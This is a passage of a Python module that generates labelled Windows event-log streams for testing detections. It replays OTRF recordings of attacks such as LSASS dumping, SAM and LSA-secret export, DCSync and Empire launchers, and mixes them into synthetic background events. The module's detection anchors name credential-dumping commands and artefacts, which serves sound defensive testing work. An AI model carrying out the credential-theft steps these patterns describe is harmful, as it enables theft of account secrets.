    _Scenario(AttackScenario("dcsync", "Directory replication (DCSync) requested by a user", "T1003.006", "synthetic"), _syn_dcsync),
    _Scenario(AttackScenario("wmi-remote-exec", "Remote command through WMI (wmiexec style)", "T1047", "synthetic"), _syn_wmi_exec),
    _Scenario(AttackScenario("ntlm-downgrade", "NetNTLM downgrade through the LSA registry", "T1562.010", "synthetic"), _syn_ntlm_downgrade),
    _Scenario(AttackScenario("wmi-consumer-persistence", "WMI event subscription running PowerShell", "T1546.003", "synthetic"), _syn_wmi_consumer),
)


# ---- OTRF replays ---------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class _Replay:
    id: str
    title: str
    technique: str
    dataset: str  # relative to <otrf_root>/jsonl
    anchors: tuple[tuple[tuple[str, str], ...], ...]  # any of: all (field, substring) pairs
    context: int = 20  # nearest context events to keep
    all_hosts: bool = False  # context from every host of the recording (lateral movement)
    before_ms: int = 20_000
    after_ms: int = 10_000


REPLAYS: tuple[_Replay, ...] = (
    _Replay("otrf-lsass-comsvcs", "LSASS dumped with comsvcs.dll MiniDump from PowerShell", "T1003.001",
            "credential_access/psh_lsass_memory_dump_comsvcs.jsonl",
            ((("CommandLine", "comsvcs.dll MiniDump"),), (("TargetImage", "lsass.exe"), ("GrantedAccess", "0x1fffff")))),
    _Replay("otrf-lsass-dumpert", "LSASS dumped with Dumpert direct syscalls", "T1003.001",
            "credential_access/cmd_lsass_memory_dumpert_syscalls.jsonl",
            ((("SourceImage", "Outflank-Dumpert.exe"), ("TargetImage", "lsass.exe")), (("Image", "Outflank-Dumpert.exe"), ("EventID", "1")))),
    _Replay("otrf-reg-save-sam", "SAM hive saved with reg.exe from an Empire shell", "T1003.002",
            "credential_access/empire_shell_reg_dump_sam.jsonl", ((("CommandLine", "save HKLM\\sam"),),)),
    _Replay("otrf-psexec-lsa-secrets", "LSA secrets saved with reg.exe over PsExec", "T1003.004",
            "credential_access/cmd_psexec_lsa_secrets_dump.jsonl",
            ((("CommandLine", "HKLM\\security\\policy\\secrets"),), (("ServiceName", "PSEXESVC"),))),
    _Replay("otrf-dcsync", "DCSync through DRSUAPI DsGetNCChanges (Covenant)", "T1003.006",
            "credential_access/covenant_dcsync_dcerpc_drsuapi_DsGetNCChanges.jsonl",
            ((("Properties", "1131f6a"), ("AccessMask", "0x100")),), all_hosts=True),
    _Replay("otrf-empire-vbs-launcher", "Empire VBS launcher: encoded PowerShell stager and logging bypass", "T1059.001",
            "execution/empire_launcher_vbs.jsonl",
            ((("CommandLine", " -enc "),), (("ScriptBlockText", "cachedGroupPolicySettings"),))),
    _Replay("otrf-regsvr32-sct", "Regsvr32 scriptlet launcher (Empire)", "T1218.010",
            "defense_evasion/empire_launcher_sct_regsvr32.jsonl",
            ((("CommandLine", "scrobj.dll"),), (("CommandLine", " -enc "),), (("ScriptBlockText", "cachedGroupPolicySettings"),))),
    _Replay("otrf-sharpwmi", "Remote process started through WMI (SharpWMI)", "T1047",
            "lateral_movement/covenant_sharpwmi_create_dcerpc_wmi.jsonl",
            ((("ParentImage", "WmiPrvSE.exe"), ("Image", "GruntHTTP2.exe")),
             (("ParentProcessName", "WmiPrvSE.exe"), ("NewProcessName", "GruntHTTP2.exe"))), all_hosts=True),
    _Replay("otrf-wsman", "Remote command over WS-Management (Covenant)", "T1021.006",
            "lateral_movement/covenant_com_wsman_automation.jsonl",
            ((("ParentImage", "WmiPrvSE.exe"), ("EventID", "1")), (("ParentProcessName", "WmiPrvSE.exe"), ("EventID", "4688"))),
            all_hosts=True),
    _Replay("otrf-mshta-javascript", "Mshta runs a remote scriptlet through JavaScript GetObject", "T1218.005",
            "defense_evasion/cmd_mshta_javascript_getobject_sct.jsonl", ((("CommandLine", "javascript:"),),)),
    _Replay("otrf-mshta-vbscript", "Mshta VBScript starts PowerShell", "T1218.005",
            "defense_evasion/cmd_mshta_vbscript_execute_psh.jsonl", ((("CommandLine", "vbscript:"),),)),
    _Replay("otrf-ntlm-downgrade", "Internal Monologue: NetNTLM downgrade through the LSA registry", "T1003",
            "defense_evasion/empire_monologue_netntlm_downgrade.jsonl",
            ((("TargetObject", "\\Lsa\\LMCompatibilityLevel"),), (("TargetObject", "\\NtlmMinClientSec"),),
             (("TargetObject", "\\RestrictSendingNTLMTraffic"),))),
    _Replay("otrf-run-key", "Run key persistence launching PowerShell (Empire)", "T1547.001",
            "persistence/empire_persistence_registry_modification_run_keys_elevated_user.jsonl",
            ((("TargetObject", "\\CurrentVersion\\Run\\Updater"),),)),
    _Replay("otrf-wmi-persistence", "WMI event subscription persistence (Covenant)", "T1546.003",
            "persistence/covenant_persistwmi.jsonl", ((("EventID", "20"), ("Type", "Command Line")),)),
    _Replay("otrf-schtask-remote", "Scheduled task created remotely with a cmd action", "T1053.005",
            "lateral_movement/schtask_create.jsonl", ((("EventID", "4698"), ("TaskName", "EventCacheManager")),), all_hosts=True),
    _Replay("otrf-schtask-modified", "Scheduled task action replaced with encoded PowerShell", "T1053.005",
            "lateral_movement/schtask_modification.jsonl", ((("EventID", "4702"), ("TaskContentNew", "powershell")),), all_hosts=True),
    _Replay("otrf-schtask-standard-user", "Scheduled task created by a standard user (Empire)", "T1053.005",
            "persistence/empire_schtasks_creation_standard_user.jsonl", ((("EventID", "4698"),),)),
)

# Context events worth replaying, by channel, with a weight on their time distance to the attack:
# what the attacker ran and touched (processes, services, tasks, scripts) comes first, then
# network, files, pipes and logons, then the registry chatter that surrounds everything.
CONTEXT_EVENTS: dict[str, dict[int, int]] = {
    SYSMON.lower(): {1: 1, 8: 1, 19: 1, 20: 1, 21: 1, 3: 2, 5: 2, 11: 2, 17: 2, 18: 2, 22: 2, 23: 2, 12: 8, 13: 8},
    "security": {4688: 1, 4697: 1, 4698: 1, 4702: 1, 4624: 2, 4625: 2, 4648: 2, 4672: 2, 5140: 2, 5145: 2},
    "system": {7045: 1},
    PS_CHANNEL.lower(): {4104: 1},
}
SHIFTED_FIELDS = ("CreationUtcTime", "PreviousCreationUtcTime")


@functools.lru_cache(maxsize=64)
def _read_jsonl(path: str, mtime_ns: int) -> tuple[dict[str, Any], ...]:
    events = []
    with open(path, "rb") as handle:
        for line in handle:
            line = line.strip()
            if line:
                value = orjson.loads(line)
                if isinstance(value, dict):
                    events.append(value)
    return tuple(events)


def _matches(event: dict[str, Any], predicate: tuple[tuple[str, str], ...]) -> bool:
    for name, needle in predicate:
        value = event.get(name)
        if name == "EventID":
            if str(value) != needle:
                return False
        elif value is None or needle.lower() not in str(value).lower():
            return False
    return True


def _event_id(event: dict[str, Any]) -> int | None:
    try:
        return int(event.get("EventID"))  # type: ignore[arg-type]
    except (TypeError, ValueError):
        return None


def _recording_times(events: Sequence[dict[str, Any]]) -> list[int | None]:
    """One time base per recording: TimeCreated_SystemTime, else UtcTime moved onto it.

    Some OTRF recordings disagree between the two by hours (a local-time collector); the median
    difference over the events that carry both converts one into the other.
    """
    created = [_parse_ms(e.get("TimeCreated_SystemTime")) for e in events]
    utc = [_parse_ms(e.get("UtcTime")) for e in events]
    diffs = sorted(c - u for c, u in zip(created, utc, strict=True) if c is not None and u is not None)
    shift = diffs[len(diffs) // 2] if diffs else 0
    return [c if c is not None else (u + shift if u is not None else None) for c, u in zip(created, utc, strict=True)]


@functools.lru_cache(maxsize=64)
def _replay_selection(replay: _Replay, path: str, mtime_ns: int) -> tuple[tuple[int, dict[str, Any]], ...]:
    return tuple(_replay_items(replay, _read_jsonl(path, mtime_ns)))


def _replay_items(replay: _Replay, events: Sequence[dict[str, Any]]) -> list[tuple[int, dict[str, Any]]]:
    """The attack events and their nearest context, as (time in the recording, event)."""
    times = _recording_times(events)
    anchors = {i for i, e in enumerate(events) if any(_matches(e, p) for p in replay.anchors)}
    if not anchors:
        return []
    timed = sorted(t for i in anchors if (t := times[i]) is not None)
    if not timed:
        return []
    by_text: dict[str, int] = {}  # CommandLine -> time of its timed Sysmon 1 (for untimed 4688 twins)
    for i, event in enumerate(events):
        line, at = event.get("CommandLine"), times[i]
        if at is not None and isinstance(line, str) and _event_id(event) == 1:
            by_text.setdefault(line, at)
    placed: dict[int, int] = {}
    for i in sorted(anchors):
        time = times[i]
        if time is None:
            # An untimed attack event (some recordings lost the Security/System times): put it at
            # the first timed event that names the same thing, else at the first attack event.
            needles = [n.lower() for p in replay.anchors if _matches(events[i], p) for k, n in p if k != "EventID"]
            time = by_text.get(events[i].get("CommandLine", ""))
            if time is None:
                time = next((t for j in range(len(events)) if (t := times[j]) is not None and j not in anchors
                             and any(n in orjson.dumps(events[j]).decode().lower() for n in needles)), timed[0])
            time += 1
        placed[i] = time
    low, high = timed[0] - replay.before_ms, timed[-1] + replay.after_ms
    hosts = {str(events[i].get("Computer", "")).lower() for i in anchors}
    candidates: list[tuple[int, int, int]] = []  # (distance, index, time)
    for i, event in enumerate(events):
        if i in placed:
            continue
        weight = CONTEXT_EVENTS.get(str(event.get("Channel", "")).lower(), {}).get(_event_id(event) or 0)
        if weight is None:
            continue
        if not replay.all_hosts and str(event.get("Computer", "")).lower() not in hosts:
            continue
        time = times[i]
        if time is None and _event_id(event) == 4688:
            linked = by_text.get(event.get("CommandLine", ""))
            time = linked + 1 if linked is not None else None
        if time is None or not low <= time <= high:
            continue
        distance = min(abs(time - t) for t in timed) * weight + weight
        candidates.append((distance, i, time))
    candidates.sort()
    for _, i, time in candidates[: replay.context]:
        placed[i] = time
    return [(placed[i], events[i]) for i in sorted(placed, key=lambda i: (placed[i], i))]


def _host_map(computers: Sequence[str], rng: random.Random) -> dict[str, Host]:
    """Recording host -> generator host: domain controllers to DC-01, file servers to the file
    server, every other host to its own workstation."""
    mapping: dict[str, Host] = {}
    free = list(WORKSTATIONS)
    rng.shuffle(free)
    for computer in computers:
        short = computer.split(".")[0].upper()
        if "DC" in short:
            mapping[computer] = DC
        elif "FILE" in short or short.startswith("SRV"):
            mapping[computer] = FILE_SERVER
        else:
            mapping[computer] = free.pop() if free else rng.choice(WORKSTATIONS)
    return mapping


def _renamer(mapping: dict[str, Host]) -> tuple[re.Pattern[str], dict[str, str]]:
    names: dict[str, str] = {}
    for computer, host in mapping.items():
        short, _, domain = computer.partition(".")
        names[computer.lower()] = host.fqdn
        names[short.lower()] = host.short
        if domain:
            names.setdefault(domain.lower(), DOMAIN)
            names.setdefault(domain.split(".")[0].lower(), NETBIOS)
    alternatives = sorted(names, key=len, reverse=True)
    pattern = re.compile(r"(?<![A-Za-z0-9])(" + "|".join(map(re.escape, alternatives)) + r")(?![A-Za-z0-9])", re.IGNORECASE)
    return pattern, names


def _rename(value: Any, pattern: re.Pattern[str], names: dict[str, str]) -> Any:
    if isinstance(value, str):
        def swap(match: re.Match[str]) -> str:
            new = names[match.group(0).lower()]
            return new.upper() if match.group(0).isupper() and new != DOMAIN else new
        return pattern.sub(swap, value)
    if isinstance(value, list):
        return [_rename(v, pattern, names) for v in value]
    return value


def _replay_builder(replay: _Replay, path: Path) -> Callable[[Fleet, random.Random], list[_Item]]:
    def build(fleet: Fleet, rng: random.Random) -> list[_Item]:
        mtime = path.stat().st_mtime_ns
        events = _read_jsonl(str(path), mtime)
        chosen = _replay_selection(replay, str(path), mtime)
        computers = sorted({str(e.get("Computer")) for e in events if e.get("Computer")})
        mapping = _host_map(computers, rng)
        pattern, names = _renamer(mapping)
        items: list[_Item] = []
        previous: int | None = None
        for time, original in chosen:
            event = {k: _rename(v, pattern, names) for k, v in original.items()}
            computer = original.get("Computer")
            host = mapping.get(str(computer)) if computer else None
            event["Computer"] = (host or rng.choice(WORKSTATIONS)).fqdn
            gap = 0 if previous is None else min(max(time - previous, 0), MAX_GAP_MS)
            items.append(_Item(gap, event, time))
            previous = time
        return items

    return build


def _scenarios(otrf_root: str | Path | None, attacks: str) -> list[_Scenario]:
    if attacks not in ATTACK_SOURCES:
        raise ValueError(f"attacks must be one of {', '.join(ATTACK_SOURCES)}, got {attacks!r}")
    replays: list[_Scenario] = []
    if attacks != "synthetic" and otrf_root is not None:
        jsonl = Path(otrf_root) / "jsonl"
        for replay in REPLAYS:
            path = jsonl / replay.dataset
            # a recording that is missing, or no longer holds the attack events, is left out
            if path.is_file() and _replay_selection(replay, str(path), path.stat().st_mtime_ns):
                info = AttackScenario(replay.id, replay.title, replay.technique, f"otrf:{replay.dataset}")
                replays.append(_Scenario(info, _replay_builder(replay, path)))
    if attacks == "otrf" and not replays:
        raise ValueError(f"no OTRF dataset of the attack catalogue under {otrf_root}/jsonl")
    return replays or list(SYNTHETIC)


# ---------------------------------------------------------------- the stream


class _Stream:
    def __init__(self, count: int, seed: int, attack_share: float, scenarios: list[_Scenario],
                 start: datetime, rate: float) -> None:
        self.count = count
        self.seed = seed
        self.start_ms = int(start.timestamp() * 1000)
        self.mean_gap_ms = 1000.0 / rate
        self.fleet = Fleet(random.Random(f"sigmaray-fleet:{seed}"))
        self.background = Background(self.fleet, random.Random(f"sigmaray-background:{seed}"))
        self.attack_rng = random.Random(f"sigmaray-attacks:{seed}")
        self.clock_rng = random.Random(f"sigmaray-clock:{seed}")
        self.sequences = self._plan_attacks(attack_share, scenarios)
        attack_events = sum(len(items) for _, items in self.sequences)
        self.background_count = count - attack_events
        # Sequence k starts after background event anchors[k] (spread over the stream, jittered).
        n = len(self.sequences)
        self.anchors = sorted(
            min(self.background_count - 1, max(0, int((k + 0.5 + self.attack_rng.uniform(-0.3, 0.3)) * self.background_count / n)))
            for k in range(n)
        ) if self.background_count > 0 else [-1] * n

    def _plan_attacks(self, share: float, scenarios: list[_Scenario]) -> list[tuple[AttackScenario, list[_Item]]]:
        target = round(self.count * share)
        chosen: list[tuple[AttackScenario, list[_Item]]] = []
        total = 0
        order: list[_Scenario] = []
        empty = 0
        while total < target and empty < len(scenarios):
            if not order:
                order = list(scenarios)
                self.attack_rng.shuffle(order)
            scenario = order.pop()
            items = scenario.build(self.fleet, self.attack_rng)
            if not items:
                empty += 1
                continue
            empty = 0
            if total + len(items) > self.count:  # only near attack_share 1: cut the last sequence short
                items = items[: self.count - total]
            chosen.append((scenario.info, items))
            total += len(items)
        return chosen

    def events(self) -> Iterator[GeneratedEvent]:
        heap: list[tuple[int, int, dict[str, Any], str | None, int | None, int | None]] = []
        order = itertools.count()
        next_sequence = 0
        clock = float(self.start_ms)
        generated_background = 0
        last = self.start_ms - 1
        emitted = 0

        def schedule(at: float) -> None:
            nonlocal next_sequence
            info, items = self.sequences[next_sequence]
            time = at + self.attack_rng.randrange(50, 2000)
            for item in items:
                time += item.gap_ms
                heapq.heappush(heap, (int(time), next(order), dict(item.event), info.id, next_sequence, item.original_ms))
            next_sequence += 1

        if self.background_count <= 0:  # nothing but attacks: one sequence after the other
            for _ in range(len(self.sequences)):
                schedule(clock)
                clock = float(max(entry[0] for entry in heap))
        while emitted < self.count:
            while generated_background < self.background_count and (not heap or clock <= heap[0][0]):
                burst = self.background.burst()
                time = clock
                for gap, event in zip(burst.gaps_ms, burst.events, strict=True):
                    if generated_background >= self.background_count:
                        break
                    time += gap
                    heapq.heappush(heap, (int(time), next(order), event, None, None, None))
                    while next_sequence < len(self.anchors) and self.anchors[next_sequence] <= generated_background:
                        schedule(time)
                    generated_background += 1
                clock += self.clock_rng.expovariate(1.0 / self.mean_gap_ms) * len(burst.events)
            if not heap:
                break
            time, _, event, attack, sequence, original = heapq.heappop(heap)
            time = max(time, last + 1)
            last = time
            yield GeneratedEvent(self._finish(event, time, original, emitted), attack, sequence)
            emitted += 1

    def _finish(self, event: dict[str, Any], time: int, original_ms: int | None, index: int) -> dict[str, Any]:
        event["TimeCreated_SystemTime"] = _iso(time)
        if event.get("Channel") == SYSMON or "UtcTime" in event:
            event["UtcTime"] = _utc(time)
        for name in SHIFTED_FIELDS:
            if name in event:
                if event[name] is None:
                    event[name] = event["UtcTime"]
                elif original_ms is not None:
                    moved = _parse_ms(event[name])
                    if moved is not None:
                        event[name] = _utc(moved + time - original_ms)
        host = str(event.get("Computer", "")).split(".")[0]
        event["EventRecordID"] = self.fleet.record_id(host, str(event.get("Channel", "")))
        event["sigmaray_event_id"] = f"gen{self.seed}-{index:08d}"
        return event


__all__ = [
    "AttackScenario", "BACKGROUND_RATE", "DEFAULT_START", "GeneratedEvent", "HOSTS", "attack_scenarios",
    "default_otrf_root", "generate", "generate_labeled", "stream_span",
]
